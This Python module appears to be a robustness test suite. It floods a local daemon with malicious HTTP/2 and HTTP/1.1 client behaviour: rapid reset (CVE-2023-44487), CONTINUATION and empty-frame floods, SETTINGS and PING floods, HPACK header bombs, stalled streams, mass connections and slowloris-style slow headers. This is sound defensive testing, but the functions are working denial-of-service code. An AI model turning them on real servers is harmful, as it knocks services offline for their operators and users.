"""What clients do that mean no good, or are broken. Each goes on for a span of time and says what it did."""

import socket
import threading
import time

from hyperframe.frame import PingFrame, RstStreamFrame, SettingsFrame

from daemon import TOKEN
from wire import PREFACE, Connection

STATUS = "/cairld.v1.AdminService/GetStatus"
START = "/cairld.v1.IntegrationService/StartAuthorization"
CHECK = "/grpc.health.v1.Health/Check"
EMPTY = b"\0\0\0\0\0"


def flood(daemon, span, attack, connections=4, settings=None):
    """Runs `attack(connection)` over and over on connections of its own, and dials again where one was closed."""
    rounds, closed = [0] * connections, [0] * connections

    def one(number):
        # Half of them by each way in.
        address = daemon.tcp if number % 2 == 0 else daemon.unix
        while not span.is_over() or not rounds[number] + closed[number]:
            connection = None
            try:
                connection = Connection(address, settings)
                while True:
                    attack(connection)
                    rounds[number] += 1
                    if span.is_over():
                        break
            except OSError:
                closed[number] += 1
            finally:
                if connection:
                    connection.close()

    threads = [threading.Thread(target=one, args=(number,)) for number in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{sum(rounds)} rounds, cut off {sum(closed)} times"


def rapid_reset(daemon, span):
    """Streams that are opened and reset at once (CVE-2023-44487), by a caller that is let in."""
    def attack(connection):
        block = connection.headers(CHECK, TOKEN)
        frames = b""
        for _ in range(100):
            frames += connection.open(block, end_stream=True) + RstStreamFrame(connection.stream, error_code=8).serialize()
            block = connection.headers(CHECK, TOKEN)
        connection.send(frames)
    return flood(daemon, span, attack)


def continuations(daemon, span):
    """A head that never ends (CVE-2024-27316)."""
    def attack(connection):
        if connection.stream < 0:
            connection.send(connection.open(b"", end_headers=False))
        connection.send(connection.continuation(connection.headers(CHECK, extra=[(f"x-{time.monotonic_ns()}", "y" * 4000)])))
    return flood(daemon, span, attack)


def empty_continuations(daemon, span):
    """The same with frames that hold nothing."""
    def attack(connection):
        if connection.stream < 0:
            connection.send(connection.open(b"", end_headers=False))
        connection.send(connection.continuation(b"") * 1000)
    return flood(daemon, span, attack)


def empty_data(daemon, span):
    """DATA frames without data and without an end (CVE-2019-9518)."""
    def attack(connection):
        if connection.stream < 0:
            connection.send(connection.open(connection.headers(START, TOKEN)))
        connection.send(connection.data(b"") * 1000)
    return flood(daemon, span, attack)


def giant_heads(daemon, span):
    """A megabyte of headers for each call, a new table entry each."""
    def attack(connection):
        block = connection.headers(CHECK, TOKEN, [(f"x-{number}", "z" * 8000) for number in range(128)])
        frames = connection.open(block[:16000], end_stream=True, end_headers=False)
        pieces = [block[at:at + 16000] for at in range(16000, len(block), 16000)]
        for number, piece in enumerate(pieces):
            frame = bytearray(connection.continuation(piece))
            frame[4] = 4 if number == len(pieces) - 1 else 0
            frames += frame
        connection.send(frames)
        connection.drain()
    return flood(daemon, span, attack)


def header_bombs(daemon, span):
    """One long header in the compression table, named a thousand times by an index of one byte."""
    def attack(connection):
        block = connection.headers(CHECK, TOKEN, [("x-bomb", "b" * 4000)])
        connection.send(connection.open(block, end_stream=True))
        connection.send(connection.open(connection.headers(CHECK, TOKEN) + b"\xbe" * 8000, end_stream=True))
        connection.drain()
    return flood(daemon, span, attack)


def settings_flood(daemon, span):
    """SETTINGS whose acknowledgements nobody reads (CVE-2019-9515)."""
    frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 7}).serialize()
    return flood(daemon, span, lambda connection: connection.send(frame * 500))


def pings(daemon, span):
    """PINGs whose answers nobody reads (CVE-2019-9512)."""
    frame = PingFrame(0, opaque_data=b"12345678").serialize()
    return flood(daemon, span, lambda connection: connection.send(frame * 500))


def hold(_, span, count, make, until_closed=0):
    """Opens connections as `make(number)` does and keeps them open: for the span, or until the daemon has closed all, which may
    take so many seconds more."""
    held, refused = [], 0
    for number in range(count):
        try:
            held.append(make(number))
        except OSError:
            refused += 1
        if time.monotonic() > span.end + 45:
            break
    span.wait()
    all_made = time.monotonic()
    alive = sum(is_open(connection) for connection in held)
    while until_closed and alive:
        if time.monotonic() > all_made + until_closed:
            raise AssertionError(f"{alive} connections are still open after {until_closed} seconds")
        time.sleep(0.1)
        alive = sum(is_open(connection) for connection in held)
    for connection in held:
        connection.close()
    return f"{len(held)} opened, {refused} refused, {alive} open at the end"


def is_open(connection):
    try:
        connection.drain()
    except OSError:
        return False
    return True


def stuck_windows(daemon, span):
    """Calls whose answers are never let in: the window of each stream is nothing."""
    def make(number):
        connection = Connection(daemon.tcp if number % 2 else daemon.unix, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        for _ in range(1000):
            connection.send(connection.open(connection.headers(STATUS, TOKEN)) + connection.data(EMPTY, end_stream=True))
        return connection
    return hold(daemon, span, 20, make)


def stuck_messages(daemon, span):
    """Calls whose message is announced, sent but for the end, and never finished: as many as two connections may have."""
    def make(number):
        connection = Connection(daemon.tcp if number % 2 else daemon.unix)
        try:
            connection.acknowledge()
            for _ in range(1000):
                connection.send(connection.open(connection.headers(START, TOKEN)))
                for piece in [b"\0\0\1\xff\xff"] + [b"x" * 16000] * 8:
                    connection.await_credit(len(piece))
                    connection.send(connection.data(piece))
        except OSError:
            pass
        return connection
    return hold(daemon, span, 2, make)


def half_prefaces(daemon, span):
    """Connections that begin like HTTP/2 and say no more, or say nothing at all."""
    def make(number):
        connection = Connection(daemon.tcp if number % 2 else daemon.unix, greet=False)
        connection.send(PREFACE[:number % len(PREFACE)] or b"P")
        return connection
    return hold(daemon, span, 1000, make, until_closed=120)


def ten_thousand(daemon, span):
    """Ten thousand connections that have greeted and made one call."""
    def make(number):
        connection = Connection(daemon.tcp if number % 2 else daemon.unix)
        connection.send(connection.open(connection.headers(CHECK, TOKEN)) + connection.data(EMPTY, end_stream=True))
        return connection
    return hold(daemon, span, 10_000, make)


def slow_heads(daemon, span):
    """Webhooks whose heads come a byte at a time, on far more connections than there are places."""
    held, opened, closed = [], 0, 0
    head = b"POST /webhooks/shop HTTP/1.1\r\nhost: cairld\r\nx-cairl-signature: sha256=" + b"0" * 10_000
    at = 0
    while not span.is_over():
        for _ in range(min(50, 1000 - len(held))):
            connection = socket.socket()
            connection.settimeout(1)
            try:
                connection.connect(daemon.webhooks)
                held.append(connection)
                opened += 1
            except OSError:
                connection.close()
        alive = []
        for connection in held:
            try:
                connection.send(head[at % len(head):at % len(head) + 1])
                alive.append(connection)
            except OSError:
                closed += 1
                connection.close()
        held, at = alive, at + 1
        time.sleep(0.05)
    for connection in held:
        connection.close()
    return f"{opened} opened, {closed} closed on them"


ALL = [rapid_reset, continuations, empty_continuations, empty_data, giant_heads, header_bombs, settings_flood, pings,
       stuck_windows, stuck_messages, half_prefaces, slow_heads, ten_thousand]
